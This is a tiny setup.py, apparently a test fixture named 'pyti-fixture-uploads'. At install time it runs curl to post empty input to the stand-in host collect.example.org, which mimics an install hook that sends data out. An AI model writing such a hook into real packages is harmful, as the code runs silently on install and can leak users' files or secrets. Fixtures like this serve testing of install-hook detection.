"""Tries to send something away; it is an empty text."""
import subprocess

subprocess.run(["curl", "-s", "-m", "5", "--data-binary", "@-", "http://collect.example.org/"], input=b"", check=False)

from setuptools import setup

setup(name="pyti-fixture-uploads", version="1.0", py_modules=["uploads"])
